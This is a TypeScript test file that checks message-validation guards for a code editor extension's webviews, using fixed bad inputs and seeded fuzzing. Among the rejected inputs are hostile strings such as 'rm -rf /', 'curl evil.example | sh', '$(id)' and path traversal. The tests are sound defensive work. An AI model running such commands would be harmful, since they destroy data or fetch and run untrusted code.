import assert from 'node:assert/strict';
import { type FromDetails, parseFromDetails, parseToHost, type ToHost } from '../../src/protocol.ts';
import { draws, seeded, seeds } from './seeded.ts';

const sha256 = 'a'.repeat(64);
/** One good message of each kind; the compiler keeps it complete. */
const good: { readonly [T in ToHost['type']]: Extract<ToHost, { type: T }> } = {
  ready: { type: 'ready' },
  run: { type: 'run', id: 1, blockId: 'b-1', sha256, hiddenConfirmed: false },
  stop: { type: 'stop', id: 2, runId: 'r_1' },
  copy: { type: 'copy', id: 3, blockId: 'b-1' },
  tick: { type: 'tick', id: 4, checkId: 'c-1', checked: true },
  openLink: { type: 'openLink', id: 5, link: 0 },
  openSource: { type: 'openSource', id: 6, line: 12 },
};

describe('The guard for messages of the webview', () => {
  for (const message of Object.values(good)) {
    it(`lets “${message.type}” through as it is`, () => {
      assert.deepEqual(parseToHost(structuredClone(message)), message);
    });
  }

  const bad: readonly [string, unknown][] = [
    ['nothing', null],
    ['a text', 'run'],
    ['a list', [good.run]],
    ['another type', { type: 'exec', id: 1, command: 'rm -rf /' }],
    ['a type of the prototype', { type: 'constructor' }],
    ['a command beside the hash', { ...good.run, command: 'rm -rf /' }],
    ['a missing field', { type: 'run', id: 1, blockId: 'b-1', hiddenConfirmed: false }],
    ['a hash that is none', { ...good.run, sha256: 'A'.repeat(64) }],
    ['a block id that is a path', { ...good.run, blockId: '../../x' }],
    ['a confirmation that is no flag', { ...good.run, hiddenConfirmed: 'yes' }],
    ['an id that is no number', { ...good.copy, id: '3' }],
    ['a line that is no number', { ...good.openSource, line: Number.NaN }],
    ['a link below zero', { ...good.openLink, link: -1 }],
    ['fields of a prototype', Object.create({ ...good.stop }) as unknown],
  ];
  for (const [name, message] of bad) {
    it(`refuses ${name}`, () => {
      assert.equal(parseToHost(message), null);
    });
  }

  it('takes nothing but the messages themselves out of mutations of them', () => {
    const values = [null, '', 'b-1', sha256, 0, -1, 1e99, true, {}, [], '__proto__', '$(id)', '../x'];
    const names = [
      'type',
      'id',
      'blockId',
      'sha256',
      'hiddenConfirmed',
      'runId',
      'checkId',
      'checked',
      'link',
      'line',
      'ms',
      'command',
      '__proto__',
    ];
    for (const seed of seeds(draws(20_000, 200_000))) {
      const random = seeded(seed);
      const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
      const message: Record<string, unknown> = { ...pick(Object.values(good)) };
      for (let change = 0; change <= random() * 3; change++) {
        const name = pick(names);
        if (random() < 0.4) delete message[name];
        else
          Object.defineProperty(message, name, {
            value: pick(values),
            enumerable: true,
            configurable: true,
            writable: true,
          });
      }
      const parsed = parseToHost(message);
      if (parsed === null) continue;
      const model = good[parsed.type];
      assert.ok(model, `seed ${seed}`);
      assert.deepEqual(Object.keys(parsed).sort(), Object.keys(model).sort(), `seed ${seed}`);
      for (const [name, value] of Object.entries(parsed)) {
        assert.equal(typeof value, typeof model[name as keyof typeof model], `seed ${seed}: ${name}`);
        if (typeof value === 'string' && name !== 'sha256')
          assert.match(value, /^[\w-]{1,80}$/, `seed ${seed}`);
      }
    }
  });
});

const fromDetails: { readonly [T in FromDetails['type']]: Extract<FromDetails, { type: T }> } = {
  ready: { type: 'ready' },
  act: { type: 'act', id: 1, action: 'acknowledge' },
  copy: { type: 'copy', id: 2, copy: 0 },
  copyLog: { type: 'copyLog', id: 3 },
  open: { type: 'open', id: 4, open: 7 },
  retry: { type: 'retry', id: 5, part: 'alerts' },
  refresh: { type: 'refresh', id: 6 },
};

describe('The guard for messages of the details', () => {
  for (const message of Object.values(fromDetails)) {
    it(`lets “${message.type}” through as it is`, () => {
      assert.deepEqual(parseFromDetails(structuredClone(message)), message);
    });
  }

  const bad: readonly [string, unknown][] = [
    ['a command’s id', { ...fromDetails.act, action: 'onCall.acknowledge' }],
    ['a command of VS Code', { ...fromDetails.act, action: 'workbench.action.quit' }],
    ['an action of the prototype', { ...fromDetails.act, action: 'constructor' }],
    ['arguments beside the action', { ...fromDetails.act, args: ['x'] }],
    ['a text to copy', { ...fromDetails.copy, copy: 'curl evil.example | sh' }],
    ['a text beside the number', { ...fromDetails.copy, text: 'x' }],
    ['an address to open', { ...fromDetails.open, open: 'https://evil.example' }],
    ['a number below zero', { ...fromDetails.open, open: -1 }],
    ['half a number', { ...fromDetails.copy, copy: 0.5 }],
    ['a part of the prototype', { ...fromDetails.retry, part: '__proto__' }],
    ['a list as a part', { ...fromDetails.retry, part: ['alerts'] }],
    ['a run', good.run],
    ['a list', [fromDetails.act]],
    ['a type of a prototype', Object.create({ type: 'ready' }) as unknown],
  ];
  for (const [name, message] of bad) {
    it(`refuses ${name}`, () => assert.equal(parseFromDetails(message), null));
  }

  it('refuses a runbook’s messages, as a runbook refuses these', () => {
    for (const message of [good.stop, good.tick, good.openLink, good.openSource, good.copy])
      assert.equal(parseFromDetails(message), null);
    for (const { type, ...fields } of Object.values(fromDetails))
      if (type !== 'ready') assert.equal(parseToHost({ type, ...fields }), null);
  });

  it('takes nothing but the messages themselves out of mutations of them', () => {
    const values = [
      null,
      '',
      'acknowledge',
      'alerts',
      0,
      -1,
      1e99,
      NaN,
      true,
      {},
      [],
      '__proto__',
      'onCall.resolve',
    ];
    const names = ['type', 'id', 'action', 'copy', 'open', 'part', 'text', 'command', '__proto__'];
    const known = new Set(Object.values(fromDetails).map(message => Object.keys(message).sort().join()));
    for (const seed of seeds(draws(20_000, 200_000))) {
      const random = seeded(seed);
      const pick = <T>(list: readonly T[]): T => list[Math.floor(random() * list.length)]!;
      const message: Record<string, unknown> = { ...pick(Object.values(fromDetails)) };
      for (let change = 0; change <= random() * 3; change++) {
        const name = pick(names);
        const value = name === 'type' && random() < 0.5 ? pick(Object.keys(fromDetails)) : pick(values);
        if (random() < 0.4) delete message[name];
        else
          Object.defineProperty(message, name, {
            value,
            enumerable: true,
            configurable: true,
            writable: true,
          });
      }
      const parsed = parseFromDetails(message);
      if (parsed === null) continue;
      assert.ok(known.has(Object.keys(parsed).sort().join()), `seed ${seed}`);
      const { type: _type, ...fields } = parsed;
      for (const [name, value] of Object.entries(fields)) {
        if (name === 'action') assert.equal(value, 'acknowledge', `seed ${seed}`);
        else if (name === 'part') assert.equal(value, 'alerts', `seed ${seed}`);
        else assert.ok(Number.isSafeInteger(value) && (value as number) >= 0, `seed ${seed}: ${name}`);
      }
    }
  });
});
